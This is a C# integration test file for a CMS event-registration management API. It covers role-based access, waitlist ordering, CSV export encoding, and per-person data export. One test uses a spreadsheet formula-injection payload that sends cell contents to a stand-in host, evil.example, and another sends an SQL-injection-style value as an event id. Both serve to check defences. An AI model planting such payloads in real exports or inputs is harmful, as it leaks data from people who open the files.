using System.Net;
using System.Net.Http.Json;
using System.Text;
using System.Text.Json;
using IcssiCms.Core.Registrations;
using IcssiCms.Web.IntegrationTests.Delivery;
using IcssiCms.Web.IntegrationTests.Forms;
using IcssiCms.Core.Schema;

namespace IcssiCms.Web.IntegrationTests.Registrations;

/// <summary>
/// The back office's registration endpoints (Management API, <c>icssi/registrations</c>): editors see the events and
/// their counts; only administrators see who registered, export them, or export one person's data.
/// </summary>
[Collection(RegistrationsSiteCollection.Name)]
public sealed class RegistrationsApiTests(RegistrationsSite site)
{
    public const string Api = "/umbraco/management/api/v1/icssi/registrations";

    private static readonly Guid GlobalizationConference = SeedContent.Hub.Named("Globalization Conference 2014").Key;
    private static readonly Guid SessionsOf28October = SeedContent.Hub.Named("Conference Sessions, 28 October").Key;

    [Fact]
    public async Task An_Editor_Sees_Each_Event_With_Its_Capacity_And_How_Many_Hold_And_Wait()
    {
        var capacity = site.HeldAt(HubFormKeys.IraqSession) + 1;
        site.SetCapacity(HubFormKeys.IraqSession, capacity);
        site.SetCapacity(GlobalizationConference, 40);
        var before = await EventAsync(await site.EditorAsync(), HubFormKeys.IraqSession);
        await site.SignUpAsync("Last Place", FormEntryTests.UniqueEmail("counts-held"), HubFormKeys.IraqSession);
        await site.SignUpAsync("Too Late", FormEntryTests.UniqueEmail("counts-wait"), HubFormKeys.IraqSession);

        using var response = await (await site.EditorAsync()).GetAsync($"{Api}/events");

        var events = await ReadJsonAsync(response);
        Assert.True(response.Headers.CacheControl?.NoStore, $"Cache-Control: {response.Headers.CacheControl}");
        var session = Assert.Single(events.EnumerateArray(), e => e.GetProperty("id").GetGuid() == HubFormKeys.IraqSession);
        Assert.Equal(SeedContent.Hub[HubFormKeys.IraqSession].Name(HubCultures.English), session.GetProperty("name").GetString());
        Assert.Equal(capacity, session.GetProperty("capacity").GetInt32());
        Assert.Equal(capacity, session.GetProperty("held").GetInt32());
        Assert.Equal(before.GetProperty("waitlisted").GetInt32() + 1, session.GetProperty("waitlisted").GetInt32());
        Assert.Equal(0, session.GetProperty("available").GetInt32());

        // An event with places that nobody signed up for is listed; one without places or sign-ups is not.
        var unsigned = Assert.Single(events.EnumerateArray(), e => e.GetProperty("id").GetGuid() == GlobalizationConference);
        Assert.Equal((40, 0, 0), (unsigned.GetProperty("capacity").GetInt32(), unsigned.GetProperty("held").GetInt32(), unsigned.GetProperty("waitlisted").GetInt32()));
        Assert.DoesNotContain(events.EnumerateArray(), e => e.GetProperty("id").GetGuid() == SessionsOf28October);
    }

    [Fact]
    public async Task An_Editor_Is_Refused_Who_Registered_The_Csv_And_A_Persons_Data_And_Nothing_Changes()
    {
        var email = FormEntryTests.UniqueEmail("editor-refused");
        await site.SignUpAsync("Refused Person", email, HubFormKeys.SocialEvent);
        var registration = Assert.Single(site.Store.Of(email).Registrations);
        var editor = await site.EditorAsync();

        var answers = new Dictionary<string, HttpStatusCode>();
        async Task Record(string what, Task<HttpResponseMessage> call)
        {
            using var response = await call;
            answers[what] = response.StatusCode;
        }

        await Record("registrations", editor.GetAsync($"{Api}/events/{HubFormKeys.SocialEvent:D}"));
        await Record("csv", editor.GetAsync($"{Api}/export"));
        await Record("promote", editor.PostAsync($"{Api}/{registration.Key:D}/promote", null));
        await Record("person export", editor.PostAsJsonAsync($"{Api}/person/export", new { email }));
        await Record("person erase", editor.PostAsJsonAsync($"{Api}/person/erase", new { email }));

        Assert.All(answers, a => Assert.True(a.Value == HttpStatusCode.Forbidden, $"{a.Key}: {(int)a.Value}"));
        var after = site.Store.Of(email);
        Assert.Single(after.Records);
        Assert.Equal(registration.Status, Assert.Single(after.Registrations).Status);
    }

    [Fact]
    public async Task Without_Signing_In_Nothing_Is_Answered()
    {
        using var anonymous = site.CreateClient();

        using var events = await anonymous.GetAsync($"{Api}/events");
        using var csv = await anonymous.GetAsync($"{Api}/export");

        Assert.Equal((HttpStatusCode.Unauthorized, HttpStatusCode.Unauthorized), (events.StatusCode, csv.StatusCode));
    }

    [Fact]
    public async Task An_Administrator_Sees_An_Events_Registrations_Holders_First_Then_The_Line_In_Order()
    {
        site.SetCapacity(HubFormKeys.SocialEvent, site.HeldAt(HubFormKeys.SocialEvent) + 1);
        var held = FormEntryTests.UniqueEmail("line-held");
        var first = FormEntryTests.UniqueEmail("line-first");
        var second = FormEntryTests.UniqueEmail("line-second");
        await site.SignUpAsync("Held Place", held, HubFormKeys.SocialEvent);
        await site.SignUpAsync("ليلى حسن", first, HubFormKeys.SocialEvent);
        await site.SignUpAsync("Second In Line", second, HubFormKeys.SocialEvent);

        using var response = await (await site.AdministratorAsync()).GetAsync($"{Api}/events/{HubFormKeys.SocialEvent:D}");

        var body = await ReadJsonAsync(response);
        var rows = body.GetProperty("registrations").EnumerateArray().ToList();
        var statuses = rows.Select(r => r.GetProperty("status").GetString()).ToList();
        Assert.Equal(statuses.OrderBy(s => s switch { "pending" or "confirmed" => 0, "waitlisted" => 1, _ => 2 }), statuses);
        var line = rows.Where(r => r.GetProperty("status").GetString() == "waitlisted").ToList();
        Assert.Equal(Enumerable.Range(1, line.Count), line.Select(r => r.GetProperty("placeInLine").GetInt32()));
        Assert.Equal(new[] { first, second }, line.TakeLast(2).Select(r => r.GetProperty("email").GetString()));
        Assert.Equal("ليلى حسن", line[^2].GetProperty("name").GetString());
        var holder = Assert.Single(rows, r => r.GetProperty("email").GetString() == held);
        Assert.Equal(("Held Place", "pending"), (holder.GetProperty("name").GetString(), holder.GetProperty("status").GetString()));
        Assert.Equal(body.GetProperty("event").GetProperty("capacity").GetInt32(), body.GetProperty("event").GetProperty("held").GetInt32());
    }

    [Theory]
    [InlineData("not-a-guid", HttpStatusCode.BadRequest)]
    [InlineData("00000000-0000-0000-0000-000000000001", HttpStatusCode.NotFound)]
    public async Task An_Event_Id_That_Is_Not_One_Is_A_Problem_Naming_It(string eventId, HttpStatusCode expected)
    {
        using var response = await (await site.AdministratorAsync()).GetAsync($"{Api}/events/{eventId}");

        var problem = await FormDefinitionTests.ReadProblemAsync(response, expected);
        Assert.Equal("eventId", problem.GetProperty("member").GetString());
    }

    [Fact]
    public async Task The_Csv_Shows_A_Formula_As_Text_And_Keeps_Arabic_Names_In_Utf8()
    {
        const string formula = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")";
        const string arabic = "كريم عبد الله";
        var hostile = FormEntryTests.UniqueEmail("csv-formula");
        var arabicEmail = FormEntryTests.UniqueEmail("csv-arabic");
        await site.SignUpAsync(formula, hostile, HubFormKeys.Conference);
        await site.SignUpAsync(arabic, arabicEmail, HubFormKeys.Conference);

        using var response = await (await site.AdministratorAsync()).GetAsync($"{Api}/export?eventId={HubFormKeys.Conference:D}");

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.Equal("text/csv", response.Content.Headers.ContentType?.MediaType);
        Assert.Equal("attachment", response.Content.Headers.ContentDisposition?.DispositionType);
        Assert.True(response.Headers.CacheControl?.NoStore, $"Cache-Control: {response.Headers.CacheControl}");
        var bytes = await response.Content.ReadAsByteArrayAsync();
        Assert.Equal(Encoding.UTF8.Preamble.ToArray(), bytes[..3]);
        var lines = new UTF8Encoding(false, throwOnInvalidBytes: true).GetString(bytes[3..]).Split(["\r\n", "\n"], StringSplitOptions.RemoveEmptyEntries);
        Assert.Equal("event,eventId,name,email,language,status,position,signedUpAt,emailConfirmedAt", lines[0]);
        Assert.All(lines.Skip(1), line => Assert.StartsWith(SeedContent.Hub[HubFormKeys.Conference].Name(HubCultures.English) + ",", line));

        var hostileLine = Assert.Single(lines, l => l.Contains(hostile));
        Assert.DoesNotContain(",=", hostileLine);
        Assert.DoesNotContain(",\"=", hostileLine);
        Assert.Contains("'=HYPERLINK(", hostileLine);
        Assert.Contains($",{arabic},{arabicEmail},", Assert.Single(lines, l => l.Contains(arabicEmail)));
    }

    [Fact]
    public async Task A_Csv_For_An_Event_Id_That_Is_Not_A_Guid_Is_A_Problem_Naming_It()
    {
        using var response = await (await site.AdministratorAsync()).GetAsync($"{Api}/export?eventId=1%3B%20DROP");

        var problem = await FormDefinitionTests.ReadProblemAsync(response, HttpStatusCode.BadRequest);
        Assert.Equal("eventId", problem.GetProperty("member").GetString());
    }

    [Fact]
    public async Task An_Administrator_Exports_Everything_Stored_For_An_Address_Given_In_The_Body()
    {
        var email = FormEntryTests.UniqueEmail("person-export");
        await site.SignUpAsync("Export Me", email, HubFormKeys.SocialEvent, HubFormKeys.IraqSession);

        using var response = await (await site.AdministratorAsync()).PostAsJsonAsync($"{Api}/person/export", new { email = "  " + email.ToUpperInvariant() + " " });

        var data = await ReadJsonAsync(response);
        Assert.Equal("attachment", response.Content.Headers.ContentDisposition?.DispositionType);
        Assert.Equal(email, data.GetProperty("email").GetString());
        var record = Assert.Single(data.GetProperty("records").EnumerateArray());
        Assert.Equal("Export Me", record.GetProperty("values").GetProperty("name")[0].GetString());
        Assert.False(string.IsNullOrEmpty(record.GetProperty("consentText").GetString()));
        Assert.Equal(
            new[] { HubFormKeys.SocialEvent, HubFormKeys.IraqSession }.Order(),
            data.GetProperty("registrations").EnumerateArray().Select(r => r.GetProperty("eventId").GetGuid()).Order());
    }

    private static async Task<JsonElement> EventAsync(HttpClient client, Guid eventKey)
    {
        using var response = await client.GetAsync($"{Api}/events");
        var events = await ReadJsonAsync(response);
        return events.EnumerateArray().FirstOrDefault(e => e.GetProperty("id").GetGuid() == eventKey) is { ValueKind: JsonValueKind.Object } found
            ? found.Clone()
            : JsonDocument.Parse("""{"held":0,"waitlisted":0}""").RootElement;
    }

    public static async Task<JsonElement> ReadJsonAsync(HttpResponseMessage response, HttpStatusCode expected = HttpStatusCode.OK)
    {
        var body = await response.Content.ReadAsStringAsync();
        Assert.True(response.StatusCode == expected, $"{(int)response.StatusCode}: {body}");
        return JsonDocument.Parse(body).RootElement.Clone();
    }
}
